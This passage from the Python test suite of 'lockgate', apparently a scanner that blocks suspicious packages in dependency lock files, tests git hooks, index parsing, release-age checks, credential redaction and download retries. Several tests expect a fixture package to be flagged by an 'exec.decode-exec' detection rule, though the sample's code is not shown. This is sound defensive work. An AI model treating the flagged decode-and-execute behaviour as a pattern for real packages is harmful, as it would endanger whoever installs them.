                raise Fail("example workflow: %s not pinned" % u)


def _hook_env(t, srv, extra=None):
    e = dict(LOCKGATE=t.bin, LOCKGATE_FLAGS=" ".join([
        "--index-url", srv.index_url, "--ca-bundle", t.ca.ca_pem,
        "--cache-dir", t.mk("hook-cache"), "--format", "text"]))
    e.update(extra or {})
    return t.env(e)


def _git(repo, env, *args):
    return subprocess.run(["git", "-c", "user.name=t", "-c", "user.email=t@t.invalid", *args],
                          cwd=repo.path, env=env, stdout=subprocess.PIPE,
                          stderr=subprocess.STDOUT, text=True)


@case
def case_install_hook(t):
    """install-hook writes hooks/pre-commit (idempotent), keeps foreign hooks
    unless --force, follows core.hooksPath, and the hook it wrote refuses a
    blocked package."""
    srv = t.server()
    b, m = benign(), L.demo_sdist()
    srv.add("demo-pkg", "1.0", [m])
    first = pin(b, BENIGN, "1.0") + "\n"
    repo = t.repo({"requirements.txt": first})
    hooks = os.path.join(repo.path, ".git", "hooks")
    want = _read(os.path.join(REPO_ROOT, "hooks", "pre-commit"))
    for n in (1, 2):
        res = t.run("install-hook", "--repo", repo.path)
        t.expect(res, rc=0, note="install-hook run %d" % n)
        if _read(os.path.join(hooks, "pre-commit")) != want or \
                not os.access(os.path.join(hooks, "pre-commit"), os.X_OK):
            raise Fail("installed hook differs from hooks/pre-commit or is not executable")
    foreign = "#!/bin/sh\necho mine\n"
    with open(os.path.join(hooks, "pre-push"), "w") as fh:
        fh.write(foreign)
    t.expect(t.run("install-hook", "--repo", repo.path, "--pre-push"), rc=3, note="foreign")
    if _read(os.path.join(hooks, "pre-push")) != foreign:
        raise Fail("a foreign hook was overwritten without --force")
    t.expect(t.run("install-hook", "--repo", repo.path, "--pre-push", "--force"), rc=0)
    if _read(os.path.join(hooks, "pre-push.lockgate-saved")) != foreign or \
            _read(os.path.join(hooks, "pre-push")) != _read(os.path.join(REPO_ROOT, "hooks", "pre-push")):
        raise Fail("--force did not keep the foreign hook or write ours")
    repo.git("config", "core.hooksPath", ".githooks")
    t.expect(t.run("install-hook", "--repo", repo.path), rc=0, note="core.hooksPath")
    if _read(os.path.join(repo.path, ".githooks", "pre-commit")) != want:
        raise Fail("install-hook ignored core.hooksPath")
    env = _hook_env(t, srv)
    repo.stage({"README": "docs only\n"})
    p = _git(repo, env, "commit", "-q", "-m", "docs")
    if p.returncode != 0:
        raise Fail("a commit without lock changes was refused:\n" + p.stdout)
    t.expect_no_requests(srv)
    head = repo.git("rev-parse", "HEAD").strip()
    repo.stage({"requirements.txt": first + pin(m, "demo-pkg", "1.0") + "\n"})
    p = _git(repo, env, "commit", "-q", "-m", "add demo")
    if p.returncode == 0 or repo.git("rev-parse", "HEAD").strip() != head:
        raise Fail("the installed hook let a blocked package be committed:\n" + p.stdout)
    if "exec.decode-exec" not in p.stdout or "(lockgate explain exec.decode-exec)" not in p.stdout:
        raise Fail("the refused commit did not show the finding:\n" + p.stdout)


@case
def case_pre_push_hook(t):
    """The pre-push hook refuses a push whose range adds a blocked package
    and lets a push without lock changes through."""
    srv = t.server()
    b, m = benign(), L.demo_sdist()
    srv.add("demo-pkg", "1.0", [m])
    first = pin(b, BENIGN, "1.0") + "\n"
    repo = t.repo({"requirements.txt": first})
    remote = os.path.join(t.tmp, "remote.git")
    L._run(["git", "init", "-q", "--bare", remote])
    repo.git("remote", "add", "origin", remote)
    repo.git("push", "-q", "origin", "main")
    t.expect(t.run("install-hook", "--repo", repo.path, "--pre-push"), rc=0)
    env = _hook_env(t, srv)
    pushed = repo.git("rev-parse", "main").strip()
    repo.commit({"requirements.txt": first + pin(m, "demo-pkg", "1.0") + "\n"}, "add demo")
    p = _git(repo, env, "push", "origin", "main")
    if p.returncode == 0 or "exec.decode-exec" not in p.stdout:
        raise Fail("the push of a blocked package was not refused:\n" + p.stdout)
    if L._run(["git", "rev-parse", "main"], cwd=remote).strip() != pushed:
        raise Fail("the remote moved")
    repo.git("checkout", "-q", "-b", "docs", pushed)
    repo.commit({"README": "docs\n"}, "docs")
    p = _git(repo, env, "push", "origin", "docs")
    if p.returncode != 0:
        raise Fail("a push without lock changes was refused:\n" + p.stdout)


@case
def case_pre_commit_framework(t):
    """.pre-commit-hooks.yaml, run by Debian's real pre-commit (try-repo,
    offline): a staged blocked package fails the hook; other files pass it
    with no index request."""
    exe = shutil.which("pre-commit")
    if not exe:
        raise Skip("pre-commit not installed (apt-get install pre-commit)")
    srv = t.server()
    b, m = benign(), L.demo_sdist()
    srv.add("demo-pkg", "1.0", [m])
    first = pin(b, BENIGN, "1.0") + "\n"
    repo = t.repo({"requirements.txt": first})
    env = _hook_env(t, srv, {"PRE_COMMIT_HOME": t.mk("pre-commit-home")})

    def try_repo():
        return subprocess.run([exe, "try-repo", REPO_ROOT, "lockgate", "--verbose"],
                              cwd=repo.path, env=env, stdout=subprocess.PIPE,
                              stderr=subprocess.STDOUT, text=True, timeout=120)
    repo.stage({"README": "docs\n"})
    p = try_repo()
    if p.returncode != 0 or "Passed" not in p.stdout:
        raise Fail("README only: expected the hook to pass:\n" + p.stdout)
    t.expect_no_requests(srv)
    repo.stage({"requirements.txt": first + pin(m, "demo-pkg", "1.0") + "\n"})
    p = try_repo()
    if p.returncode == 0 or "exec.decode-exec" not in p.stdout:
        raise Fail("a staged blocked package passed pre-commit:\n" + p.stdout)


# ------------------------------------------------ Simple API and auth ----

def _simple_release(srv):
    """benign-pkg 1.0 (sdist + wheel) and demo-pkg 1.0 on srv; returns them."""
    b, w, m = benign(), L.wheel(BENIGN, "1.0"), L.demo_sdist()
    srv.add(BENIGN, "1.0", [b, w])
    srv.add(BENIGN, "1.1", [benign("1.1")])
    srv.add("demo-pkg", "1.0", [m])
    return b, w, m


def _simple_repo(t, b, w, m):
    """benign-pkg pinned as 1.0.0 (the index says 1.0) with both hashes."""
    return t.repo({"requirements.txt": ""},
                  {"requirements.txt": reqs(
                      "benign-pkg==1.0.0 --hash=sha256:%s --hash=sha256:%s" % (
                          b.sha256, w.sha256),
                      pin(m, "demo-pkg", "1.0"))})


def _expect_simple_block(t, res, b, w, m):
    t.expect(res, rc=1, subset={
        "verdict": "block",
        "artifacts": [{"package": BENIGN, "file": b.filename, "sha256": b.sha256,
                       "verdict": "pass"},
                      {"package": BENIGN, "file": w.filename, "sha256": w.sha256},
                      {"package": "demo-pkg", "file": m.filename, "verdict": "block"}],
        "findings": [finding("exec.decode-exec", package="demo-pkg", lockfile_line=2)],
        "errors": [],
    })
    if len(res.json["artifacts"]) != 3:
        raise Fail("benign-pkg 1.1 must not be fetched for a 1.0.0 pin\n" + res.describe())


def _served_types(srv, fragment):
    return sorted({r.content_type for r in srv.requested(fragment) if r.status == 200})


@case
def case_simple_json(t):
    """A Simple API root: the PEP 691 JSON page is asked for and used; the
    pin `1.0.0` selects the files of release 1.0 by file name."""
    srv = t.server()
    b, w, m = _simple_release(srv)
    res = t.check(_simple_repo(t, b, w, m), index_url=srv.simple_url)
    _expect_simple_block(t, res, b, w, m)
    t.expect(res, no_findings=[{"rule": "index.yanked"}, {"rule": "index.insecure-http"}])
    if _served_types(srv, "/simple/") != ["application/vnd.pypi.simple.v1+json"]:
        raise Fail("expected only JSON pages, log: %r" % srv.requests())
    t.expect_requested(srv, "/simple/benign-pkg/")
    t.expect_requested(srv, "/pypi/", present=False)
    t.expect_requested(srv, "benign_pkg-1.1", present=False)


@case
def case_simple_html_only(t):
    """An index that serves only PEP 503 HTML (relative hrefs, #sha256=
    fragments, entities) gives the same result."""
    srv = t.server(html_only=True)
    b, w, m = _simple_release(srv)
    res = t.check(_simple_repo(t, b, w, m), index_url=srv.simple_url)
    _expect_simple_block(t, res, b, w, m)
    if _served_types(srv, "/simple/") != ["text/html"]:
        raise Fail("expected only HTML pages, log: %r" % srv.requests())


@case
def case_yanked_release(t):
    """A yanked release is an index.yanked finding (low: not blocking) with
    its reason, in the JSON form, the HTML form and the JSON API."""
    for mode in ("json", "html", "pypi"):
        srv = t.server(html_only=(mode == "html"))
        b, y = benign(), L.sdist("old-pkg", "2.0")
        srv.add(BENIGN, "1.0", [b])
        srv.add("old-pkg", "2.0", [y], yanked="broken & insecure <2.0.1>")
        repo = t.repo({"requirements.txt": ""},
                      {"requirements.txt": reqs(pin(b, BENIGN, "1.0"), pin(y, "old-pkg", "2.0"))})
        res = t.check(repo, index_url=srv.index_url if mode == "pypi" else srv.simple_url)
        t.expect(res, rc=0, subset={
            "verdict": "pass",
            "artifacts": [{"package": "old-pkg", "verdict": "pass"}],
            "findings": [finding("index.yanked", severity="low", package="old-pkg",
                                 version="2.0", lockfile_line=2)],
        }, no_findings=[{"rule": "index.yanked", "package": BENIGN}], note=mode)
        msg = [f["message"] for f in res.json["findings"] if f["rule"] == "index.yanked"][0]
        if "broken & insecure <2.0.1>" not in msg:
            raise Fail("%s: the reason is missing from %r" % (mode, msg))


NOW = "2026-11-28T00:00:00Z"


def release_check(t, srv, name, art, version, *args, mode="json", env=None):
    """Adds name==version (art) to a lock; runs check at NOW."""
    repo = t.repo({"requirements.txt": "# deps\n"},
                  {"requirements.txt": "# deps\n" + pin(art, name, version) + "\n"})
    e = {"LOCKGATE_NOW": NOW}
    e.update(env or {})
    return t.check(repo, *args, index_url=srv.index_url if mode == "pypi" else srv.simple_url,
                   env=e)


@case
def case_release_cooldown(t):
    """A release uploaded an hour before now is release.cooldown (high,
    blocking) on its lock-file line, from the PEP 691 page and from the PyPI
    JSON API; one uploaded three days ago is not."""
    for mode in ("json", "pypi"):
        srv = t.server()
        old, new = L.sdist("fresh-pkg", "1.0"), L.sdist("fresh-pkg", "1.1")
        srv.add("fresh-pkg", "1.0", [old], upload_time="2026-10-10T10:00:00Z")
        srv.add("fresh-pkg", "1.1", [new], upload_time="2026-11-27T23:00:00Z")
        res = release_check(t, srv, "fresh-pkg", new, "1.1", mode=mode)
        t.expect(res, rc=1, subset={
            "verdict": "block",
            "findings": [finding("release.cooldown", severity="high", package="fresh-pkg",
                                 version="1.1", lockfile="requirements.txt",
                                 lockfile_line=2, message=Contains("1 hours ago"))],
        }, no_findings=[{"rule": "release.first"}, {"rule": "release.dormant"}], note=mode)
        # --warn-only style: a 0-day cooldown turns it off
        res = release_check(t, srv, "fresh-pkg", new, "1.1", "--cooldown-days", "0", mode=mode)
        t.expect(res, rc=0, no_findings=[{"rule": "release.cooldown"}], note=mode + " off")
    # the near case: three days old, past the 2-day default
    srv = t.server()
    old, new = L.sdist("aged-pkg", "1.0"), L.sdist("aged-pkg", "1.1")
    srv.add("aged-pkg", "1.0", [old], upload_time="2026-06-01T10:00:00Z")
    srv.add("aged-pkg", "1.1", [new], upload_time="2026-11-25T00:00:00Z")
    res = release_check(t, srv, "aged-pkg", new, "1.1")
    t.expect(res, rc=0, subset={"verdict": "pass"},
             no_findings=[{"rule": "release.cooldown"}, {"rule": "release.first"},
                          {"rule": "release.dormant"}])
    # a longer cooldown catches it
    res = release_check(t, srv, "aged-pkg", new, "1.1", "--cooldown-days", "7")
    t.expect(res, rc=1, subset={"findings": [finding("release.cooldown", package="aged-pkg")]})


@case
def case_release_cooldown_exempt(t):
    """--cooldown-exempt (any spelling of the name) and the configuration's
    cooldown-exempt / cooldown-days hold no cooldown finding."""
    srv = t.server()
    old, new = L.sdist("own_pkg", "1.0"), L.sdist("own_pkg", "1.1")
    srv.add("own_pkg", "1.0", [old], upload_time="2026-01-10T10:00:00Z")
    srv.add("own_pkg", "1.1", [new], upload_time="2026-11-27T23:00:00Z")
    res = release_check(t, srv, "own-pkg", new, "1.1", "--cooldown-exempt", "Own.Pkg")
    t.expect(res, rc=0, subset={"verdict": "pass"}, no_findings=[{"rule": "release.cooldown"}])
    repo = t.repo({"requirements.txt": "# deps\n"},
                  {"requirements.txt": "# deps\n" + pin(new, "own-pkg", "1.1") + "\n",
                   ".lockgate.toml": 'cooldown-exempt = ["own-pkg"]\n'})
    res = t.check(repo, index_url=srv.simple_url, env={"LOCKGATE_NOW": NOW})
    t.expect(res, rc=0, no_findings=[{"rule": "release.cooldown"}], note="config exempt")
    repo = t.repo({"requirements.txt": "# deps\n"},
                  {"requirements.txt": "# deps\n" + pin(new, "own-pkg", "1.1") + "\n",
                   ".lockgate.toml": "cooldown-days = 0\n"})
    res = t.check(repo, index_url=srv.simple_url, env={"LOCKGATE_NOW": NOW})
    t.expect(res, rc=0, no_findings=[{"rule": "release.cooldown"}], note="config days 0")
    # the command line wins over the configuration
    res = t.check(repo, "--cooldown-days", "3", index_url=srv.simple_url,
                  env={"LOCKGATE_NOW": NOW})
    t.expect(res, rc=1, subset={"findings": [finding("release.cooldown", package="own-pkg")]},
             note="cli over config")


@case
def case_release_first_and_dormant(t):
    """A project's only release is release.first (low); a release 400 days
    after the one before is release.dormant (low); 100 days is not; both are
    checked from the PEP 691 page only."""
    srv = t.server()
    solo = L.sdist("solo-pkg", "0.1")
    srv.add("solo-pkg", "0.1", [solo], upload_time="2026-10-01T00:00:00Z")
    res = release_check(t, srv, "solo-pkg", solo, "0.1")
    t.expect(res, rc=0, subset={
        "verdict": "pass",
        "findings": [finding("release.first", severity="low", package="solo-pkg",
                             lockfile_line=2)]},
        no_findings=[{"rule": "release.cooldown"}, {"rule": "release.dormant"}])
    # the near case: a later release of a project is not its first
    a1, a2 = L.sdist("two-pkg", "1.0"), L.sdist("two-pkg", "2.0")
    srv.add("two-pkg", "1.0", [a1], upload_time="2026-05-01T00:00:00Z")
    srv.add("two-pkg", "2.0", [a2], upload_time="2026-08-09T00:00:00Z")
    res = release_check(t, srv, "two-pkg", a2, "2.0")
    t.expect(res, rc=0, no_findings=[{"rule": "release.first"}, {"rule": "release.dormant"}])
    # dormant: 400 days
    d1, d2 = L.sdist("sleepy-pkg", "1.0"), L.sdist("sleepy-pkg", "1.1")
    srv.add("sleepy-pkg", "1.0", [d1], upload_time="2025-09-01T00:00:00Z")
    srv.add("sleepy-pkg", "1.1", [d2], upload_time="2026-10-06T00:00:00Z")
    res = release_check(t, srv, "sleepy-pkg", d2, "1.1")
    t.expect(res, rc=0, subset={
        "findings": [finding("release.dormant", severity="low", package="sleepy-pkg",
                             lockfile_line=2, message=Contains("400 days"))]},
        no_findings=[{"rule": "release.first"}])
    res = release_check(t, srv, "sleepy-pkg", d2, "1.1", "--dormant-days", "500")
    t.expect(res, rc=0, no_findings=[{"rule": "release.dormant"}], note="--dormant-days 500")
    # the PyPI JSON API's release document has no history: neither fires
    res = release_check(t, srv, "solo-pkg", solo, "0.1", mode="pypi")
    t.expect(res, rc=0, no_findings=[{"rule": "release.first"}], note="pypi")


@case
def case_release_html_no_times(t):
    """An HTML-only index has no upload times: no release.cooldown even for
    a fresh release, and one release.no-times (info) note for the run."""
    srv = t.server(html_only=True)
    a, b = L.sdist("fresh-a", "1.0"), L.sdist("fresh-b", "1.0")
    srv.add("fresh-a", "1.0", [a], upload_time="2026-11-27T23:00:00Z")
    srv.add("fresh-b", "1.0", [b], upload_time="2026-11-27T23:00:00Z")
    repo = t.repo({"requirements.txt": "# deps\n"},
                  {"requirements.txt": reqs("# deps", pin(a, "fresh-a", "1.0"),
                                            pin(b, "fresh-b", "1.0"))})
    res = t.check(repo, index_url=srv.simple_url, env={"LOCKGATE_NOW": NOW})
    t.expect(res, rc=0, subset={
        "verdict": "pass",
        "findings": [finding("release.no-times", severity="info",
                             message=Contains("2 changed packages"))]},
        no_findings=[{"rule": "release.cooldown"}, {"rule": "release.first"}])
    if sum(f["rule"] == "release.no-times" for f in res.json["findings"]) != 1:
        raise Fail("release.no-times should be reported once\n" + res.describe())


@case
def case_simple_hash_mismatch(t):
    """The Simple page's digest disagrees with the lock and the bytes."""
    srv = t.server()
    b = benign()
    srv.add(BENIGN, "1.0", [b], digest_override={b.filename: L.sha256_hex(b"other")})
    repo = t.repo({"requirements.txt": ""}, {"requirements.txt": reqs(pin(b, BENIGN, "1.0"))})
    res = t.check(repo, index_url=srv.simple_url)
    t.expect(res, rc=1, subset={"verdict": "block", "findings": [
        finding("hash.mismatch", severity="critical", package=BENIGN)]})


@case
def case_simple_version_missing(t):
    """A version the project page does not list: incomplete, not a pass."""
    srv = t.server()
    b = benign()
    srv.add(BENIGN, "1.0", [b])
    repo = t.repo({"requirements.txt": ""},
                  {"requirements.txt": reqs(pin(b, BENIGN, "1.0.post0"))})
    res = t.check(repo, index_url=srv.simple_url)
    t.expect(res, rc=2, subset={"verdict": "incomplete",
                                "errors": [{"package": BENIGN, "message": ANY}]})
    t.expect_requested(srv, "/files/", present=False)


PASSWORD = "Pa55-w0rd-x9Zq"


def _no_secret(t, res, where=""):
    for text, name in ((res.stdout, "stdout"), (res.stderr, "stderr")):
        if PASSWORD in text:
            raise Fail("the password appears in %s %s\n%s" % (name, where, res.describe()))


def _no_secret_in_dir(d):
    for root, _, files in os.walk(d):
        for fn in files + [root]:
            p = os.path.join(root, fn)
            if PASSWORD in p:
                raise Fail("the password appears in a cache path: %s" % p)
            if os.path.isfile(p):
                with open(p, "rb") as f:
                    if PASSWORD.encode() in f.read():
                        raise Fail("the password appears in cache file %s" % p)


def _auth_case(t, make_url, env=None):
    srv = t.server(auth=("alice", PASSWORD))
    b, m = benign(), L.demo_sdist()
    srv.add(BENIGN, "1.0", [b])
    srv.add("demo-pkg", "1.0", [m])
    repo = t.repo({"requirements.txt": ""},
                  {"requirements.txt": reqs(pin(b, BENIGN, "1.0"), pin(m, "demo-pkg", "1.0"),
                                            "missing-pkg==1.0")})
    cache = t.mk("auth-cache")
    url = make_url(srv)
    for fmt in ("json", "text"):
        res = t.check(repo, index_url=url, env=env, fmt=fmt, cache=cache)
        t.expect(res, rc=1, note="format " + fmt)
        _no_secret(t, res, "(format %s)" % fmt)
    t.expect(res, rc=1)
    res = t.check(repo, index_url=url, env=env, cache=cache)
    t.expect(res, rc=1, subset={
        "verdict": "block",
        "artifacts": [{"package": BENIGN, "verdict": "pass"},
                      {"package": "demo-pkg", "verdict": "block"}],
        "errors": [{"package": "missing-pkg", "message": ANY}],
    })
    _no_secret(t, res)
    _no_secret_in_dir(cache)
    if "127.0.0.1:%d/simple/missing-pkg/" % srv.port not in res.json["errors"][0]["message"]:
        raise Fail("the error should name the (redacted) page URL\n" + res.describe())
    if any(r.status == 200 and r.authorization != "Basic" for r in srv.requests()):
        raise Fail("a request was served without credentials: %r" % srv.requests())
    t.expect_requested(srv, "/files/" + b.filename)
    return srv, repo


@case
def case_auth_url_credentials(t):
    """user:password@ in --index-url: sent as basic auth to the index and
    its files, never printed (text, json, errors) or written to the cache."""
    def url(srv):
        return "https://alice:%s@127.0.0.1:%d/simple/" % (PASSWORD, srv.port)
    srv, repo = _auth_case(t, url)
    res = t.check(repo, index_url=srv.simple_url)  # no credentials: 401
    t.expect(res, rc=2, subset={"verdict": "incomplete"})


@case
def case_auth_netrc(t):
    """Credentials from $NETRC for the index host."""
    netrc = os.path.join(t.tmp, "netrc")
    with open(netrc, "w") as f:
        f.write("machine 127.0.0.1\n  login alice\n  password %s\n" % PASSWORD)
    os.chmod(netrc, 0o600)
    _auth_case(t, lambda srv: srv.simple_url, env={"NETRC": netrc})


@case
def case_auth_home_netrc(t):
    """~/.netrc is read when NETRC is not set."""
    with open(os.path.join(t.home, ".netrc"), "w") as f:
        f.write("default login alice password %s\n" % PASSWORD)
    _auth_case(t, lambda srv: srv.simple_url)


@case
def case_pip_index_url_env(t):
    """Without --index-url, PIP_INDEX_URL names the index (then UV_INDEX_URL,
    UV_DEFAULT_INDEX); --index-url wins over them."""
    srv, other = t.server(), t.server()
    b = benign()
    srv.add(BENIGN, "1.0", [b])
    repo = t.repo({"requirements.txt": ""}, {"requirements.txt": reqs(pin(b, BENIGN, "1.0"))})
    for var in ("PIP_INDEX_URL", "UV_INDEX_URL", "UV_DEFAULT_INDEX"):
        res = t.check(repo, index_url=None, env={var: srv.simple_url})
        t.expect(res, rc=0, subset={"verdict": "pass", "errors": [],
                                    "artifacts": [{"sha256": b.sha256}]}, note=var)
    res = t.check(repo, index_url=srv.simple_url, env={"PIP_INDEX_URL": other.simple_url})
    t.expect(res, rc=0, subset={"verdict": "pass"})
    t.expect_no_requests(other)


@case
def case_pip_index_url_over_uv(t):
    """PIP_INDEX_URL and UV_INDEX_URL both set: PIP_INDEX_URL names the
    index, the UV one is never asked."""
    srv, other = t.server(), t.server()
    b = benign()
    srv.add(BENIGN, "1.0", [b])
    repo = t.repo({"requirements.txt": ""}, {"requirements.txt": reqs(pin(b, BENIGN, "1.0"))})
    res = t.check(repo, index_url=None, env={"PIP_INDEX_URL": srv.simple_url,
                                             "UV_INDEX_URL": other.simple_url,
                                             "UV_DEFAULT_INDEX": other.simple_url})
    t.expect(res, rc=0, subset={"verdict": "pass", "errors": [],
                                "artifacts": [{"sha256": b.sha256}]})
    t.expect_requested(srv, "/simple/benign-pkg/")
    t.expect_no_requests(other)


def _uv_lock_at(art, name, version, registry):
    return "\n".join(["version = 1", "revision = 3", 'requires-python = ">=3.9"', "",
                      "[[package]]", 'name = "%s"' % name, 'version = "%s"' % version,
                      'source = { registry = "%s" }' % registry,
                      'sdist = { url = "https://files.invalid/%s", hash = "sha256:%s", '
                      'size = 1 }' % (art.filename, art.sha256), ""])


@case
def case_lock_source_over_index_url(t):
    """uv.lock's source.registry (a second index) wins over --index-url;
    requirements -i too. A lock naming PyPI itself follows --index-url."""
    main, second = t.server(), t.server()
    b, m = benign(), L.demo_sdist()
    second.add("demo-pkg", "1.0", [m])
    main.add(BENIGN, "1.0", [b])
    repo = t.repo({"uv.lock": _uv_lock_at(b, BENIGN, "1.0", "https://pypi.org/simple")},
                  {"uv.lock": _uv_lock_at(m, "demo-pkg", "1.0", second.simple_url)})
    res = t.check(repo, index_url=main.simple_url)
    t.expect(res, rc=1, subset={"verdict": "block",
                                "findings": [finding("exec.decode-exec", package="demo-pkg")]})
    t.expect_requested(second, "/simple/demo-pkg/")
    t.expect_no_requests(main)
    repo2 = t.repo({"requirements.txt": ""},
                   {"requirements.txt": reqs("-i " + second.simple_url, pin(m, "demo-pkg", "1.0")),
                    "uv.lock": _uv_lock_at(b, BENIGN, "1.0", "https://pypi.org/simple/")})
    res = t.check(repo2, index_url=main.simple_url)
    t.expect(res, rc=1, subset={"artifacts": [{"package": BENIGN, "verdict": "pass"},
                                              {"package": "demo-pkg", "verdict": "block"}]})
    t.expect_requested(main, "/simple/benign-pkg/")
    t.expect_requested(main, "demo-pkg", present=False)


def _poetry_lock_at(art, name, version, source_url):
    return "\n".join(["[[package]]", 'name = "%s"' % name, 'version = "%s"' % version,
                      'description = ""', "optional = false", 'python-versions = "*"',
                      "files = [", '    {file = "%s", hash = "sha256:%s"},' % (
                          art.filename, art.sha256), "]", "",
                      "[package.source]", 'type = "legacy"', 'url = "%s"' % source_url,
                      'reference = "private"', "", "[metadata]", 'lock-version = "2.1"',
                      'python-versions = "*"', 'content-hash = "0"', ""])


@case
def case_poetry_source_index(t):
    """A poetry.lock [package.source] (type legacy) is the index fetched
    from, not --index-url."""
    main, second = t.server(), t.server()
    m = L.demo_sdist()
    second.add("demo-pkg", "1.0", [m])
    main.add("demo-pkg", "1.0", [benign()])
    repo = t.repo({"poetry.lock": "[metadata]\nlock-version = \"2.1\"\n"},
                  {"poetry.lock": _poetry_lock_at(m, "demo-pkg", "1.0", second.simple_url)})
    res = t.check(repo, index_url=main.simple_url)
    t.expect(res, rc=1, subset={"verdict": "block",
                                "artifacts": [{"package": "demo-pkg", "sha256": m.sha256}],
                                "findings": [finding("exec.decode-exec", package="demo-pkg")]})
    t.expect_requested(second, "/simple/demo-pkg/")
    t.expect_requested(second, "/files/")
    t.expect_no_requests(main)


@case
def case_index_revalidation_304(t):
    """A second run with the same cache revalidates the project page
    (If-None-Match / If-Modified-Since) and gets 304; files come from the
    content-addressed cache."""
    srv = t.server()
    b = benign()
    srv.add(BENIGN, "1.0", [b])
    repo = t.repo({"requirements.txt": ""}, {"requirements.txt": reqs(pin(b, BENIGN, "1.0"))})
    cache = t.mk("shared-cache")
    for i in range(2):
        res = t.check(repo, index_url=srv.simple_url, cache=cache)
        t.expect(res, rc=0, subset={"verdict": "pass", "errors": [],
                                    "artifacts": [{"sha256": b.sha256}]}, note="run %d" % i)
    pages = [r.status for r in srv.requested("/simple/benign-pkg/")]
    if pages != [200, 304]:
        raise Fail("project page statuses %r, expected [200, 304]" % pages)
    if len(srv.requested("/files/")) != 1:
        raise Fail("the file was downloaded twice: %r" % srv.requests())
    # The JSON API is revalidated the same way.
    for i in range(2):
        res = t.check(repo, index_url=srv.index_url, cache=cache)
        t.expect(res, rc=0, subset={"verdict": "pass"})
    if [r.status for r in srv.requested("/pypi/")] != [200, 304]:
        raise Fail("JSON API statuses: %r" % srv.requests())


@case
def case_insecure_http_index(t):
    """http:// is refused (nothing sent) unless --allow-insecure-index, and
    then it is an index.insecure-http finding."""
    srv = t.server(html_only=True, http=True)
    b = benign()
    srv.add(BENIGN, "1.0", [b])
    repo = t.repo({"requirements.txt": ""}, {"requirements.txt": reqs(pin(b, BENIGN, "1.0"))})
    res = t.check(repo, index_url=srv.http_simple_url)
    t.expect(res, rc=2, subset={"verdict": "incomplete",
                                "errors": [{"package": BENIGN, "message": ANY}]})
    if "--allow-insecure-index" not in res.json["errors"][0]["message"]:
        raise Fail("the error should name the option\n" + res.describe())
    t.expect_no_requests(srv)
    res = t.check(repo, "--allow-insecure-index", index_url=srv.http_simple_url)
    t.expect(res, rc=0, subset={
        "verdict": "pass", "artifacts": [{"sha256": b.sha256, "verdict": "pass"}],
        "findings": [finding("index.insecure-http", severity="medium", package=BENIGN)]})
    t.expect_requested(srv, "/files/" + b.filename)
    repo2 = t.repo({"requirements.txt": ""}, {"requirements.txt": reqs("benign-pkg==1.0")})
    res = t.check(repo2, "--allow-insecure-index", index_url=srv.http_simple_url)
    t.expect(res, rc=1, subset={"verdict": "block", "findings": [
        finding("index.insecure-http", severity="high", package=BENIGN)]})


# ------------------------------------------------------ fetcher cases ----

def _pins(*arts):
    return reqs(*(pin(a, n, v) for a, n, v in arts))


@case
def case_parallel_downloads(t):
    """Six changed packages: every file is fetched over one HTTP/2
    connection (multiplexed), and all pass."""
    srv = t.server()
    arts = []
    for i in range(6):
        name = "par-pkg%d" % i
        a = L.sdist(name, "1.0")
        srv.add(name, "1.0", [a])
        arts.append((a, name, "1.0"))
    repo = t.repo({"requirements.txt": ""}, {"requirements.txt": _pins(*arts)})
    res = t.check(repo, "--jobs", "4", index_url=srv.index_url)
    t.expect(res, rc=0, subset={"verdict": "pass", "errors": [],
                                "artifacts": [{"package": n, "verdict": "pass",
                                               "read": "full"} for _, n, _ in arts]})
    files = srv.requested("/files/")
    if sorted(r.path for r in files) != sorted("/files/" + a.filename for a, _, _ in arts):
        raise Fail("expected each file once; log:\n%s" % "\n".join(
            "%s %s %d" % (r.method, r.path, r.status) for r in srv.requests()))
    if any(r.protocol != "HTTP/2.0" for r in files):
        raise Fail("files not fetched over HTTP/2: %r" % [r.protocol for r in files])
    if len({r.connection for r in files}) != 1:
        raise Fail("files not multiplexed on one connection: %r" %
                   [r.connection for r in files])


@case
def case_jobs_usage(t):
    for bad in ("0", "x", "1000"):
        res = t.run("check", "--jobs", bad)
        t.expect(res, rc=3, note="--jobs " + bad)
    res = t.run("check", "--max-file-size", "1T")
    t.expect(res, rc=3, note="--max-file-size 1T")


def _wait_for(pred, timeout=20.0):
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if pred():
            return True
        time.sleep(0.05)
    return False


@case
def case_retry_after_503(t):
    """The file answers 503 with Retry-After: 1 until the test heals it;
    lockgate waits, tries again and passes."""
    flag = os.path.join(t.tmp, "fail-flag")
    open(flag, "w").close()
    srv = t.server(files_conf=L.fail_files(flag))
    b = benign()
    srv.add(BENIGN, "1.0", [b])
    repo = t.repo({"requirements.txt": ""}, {"requirements.txt": pin(b, BENIGN, "1.0") + "\n"})
    argv = [t.bin] + t.check_argv(repo, index_url=srv.index_url)
    p = subprocess.Popen(argv, env=t.env(), stdout=subprocess.PIPE,
                         stderr=subprocess.PIPE, stdin=subprocess.DEVNULL)
    try:
        seen = _wait_for(lambda: any(r.status == 503 for r in srv.requested("/files/")))
        os.remove(flag)
        out, err = p.communicate(timeout=RUN_TIMEOUT)
    finally:
        if p.poll() is None:
            p.kill()
            p.wait()
    res = Result(argv, p.returncode, out.decode(errors="replace"),
                 err.decode(errors="replace"), 0.0)
    if not seen:
        raise Fail("no 503 was ever served\n" + res.describe())
    t.expect(res, rc=0, subset={"verdict": "pass", "errors": [],
                                "artifacts": [{"sha256": b.sha256, "verdict": "pass"}]})
    got = [r.status for r in srv.requested("/files/" + b.filename)]
    if got[0] != 503 or got[-1] != 200:
        raise Fail("expected 503 then 200, got %r" % got)


@case
def case_permanent_503(t):
    """A file that always answers 503: retried, then incomplete (exit 2),
    never a pass."""
    flag = os.path.join(t.tmp, "fail-flag")
    open(flag, "w").close()
    srv = t.server(files_conf=L.fail_files(flag))
    b = benign()
    srv.add(BENIGN, "1.0", [b])
    repo = t.repo({"requirements.txt": ""}, {"requirements.txt": pin(b, BENIGN, "1.0") + "\n"})
    res = t.check(repo, index_url=srv.index_url)
    t.expect(res, rc=2, subset={"verdict": "incomplete",
                                "artifacts": [{"package": BENIGN, "verdict": "incomplete"}],
                                "errors": [{"package": BENIGN, "message": ANY}]})
    msg = res.json["errors"][0]["message"]
    if "503" not in msg or "tries" not in msg:
        raise Fail("error message should name the status and the tries: %r" % msg)
    tries = len(srv.requested("/files/" + b.filename))
    if tries != 4:
        raise Fail("expected 1 try + 3 retries, got %d requests" % tries)


@case
def case_not_found_no_retry(t):
    """A 404 on the file is final: one request, incomplete."""
    srv = t.server()
    b = benign()
    srv.add(BENIGN, "1.0", [b])
